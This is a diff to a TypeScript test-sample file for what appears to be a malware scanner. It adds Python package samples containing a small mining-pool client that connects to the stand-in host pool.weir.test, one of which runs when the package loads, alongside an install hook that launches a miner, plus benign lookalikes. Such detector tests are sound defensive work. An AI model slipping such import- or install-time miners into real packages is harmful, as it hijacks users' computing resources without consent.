@@ -1,6 +1,11 @@
 import type { Samples } from '../contract.ts';
 import { at, HOOK_LINE, hooked, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
+/** A small miner of Python, by its pool and what stands behind it. */
+function digger(pool: string, rest: string): string {
+  return `import hashlib, json, socket\ndef work(pool=None):\n    with socket.create_connection(${pool}) as raw:\n        raw.sendall(json.dumps({"method": "mining.subscribe", "params": []}).encode())\n        raw.sendall(b'{"method": "mining.authorize", "params": ["own"]}')\n        share = hashlib.sha256(raw.recv(4096)).hexdigest()\n        raw.sendall(json.dumps({"method": "mining.submit", "params": [share]}).encode())\n${rest}`;
+}
+
 export const samples: Samples = {
   malicious: [
     {
@@ -35,6 +40,16 @@ export const samples: Samples = {
       ],
     },
     {
+      name: 'Python: the protocol of a pool, when the package is loaded',
+      files: wheel(digger('("pool.weir.test", 3333)', 'work()\n')),
+      expected: [at('pool', 'high', 'own/__init__.py', 4)],
+    },
+    {
+      name: 'Python: the protocol of a pool, spoken by a function',
+      files: wheel(digger('("pool.weir.test", 3333)', '')),
+      expected: [at('pool', 'high', 'own/__init__.py', 4)],
+    },
+    {
       name: 'a miner in a hook',
       files: hooked('./jsextension -k --tls -o pool.weir.test:443 --donate-level 1'),
       expected: [at('miner', 'critical', 'package.json', HOOK_LINE)],
@@ -66,6 +81,13 @@ export const samples: Samples = {
       'a program that is given an output and a user',
       imported(
         `require('child_process').spawn('tool', ['-o', 'out.txt', '-u', '4444444444444444444444444']);\n`,
+      ),
+    ),
+    quiet('Python: a miner that is told its pool', wheel(digger('pool', ''))),
+    quiet(
+      'Python: a look at how a pool does',
+      wheel(
+        'import hashlib, json, socket\ndef look(account):\n    with socket.create_connection(("pool.weir.test", 3333)) as raw:\n        raw.sendall(json.dumps({"method": "mining.subscribe"}).encode())\n        raw.sendall(json.dumps({"method": "mining.authorize", "params": [account]}).encode())\n        return hashlib.sha256(raw.recv(4096)).hexdigest()\n',
       ),
     ),
     quiet(
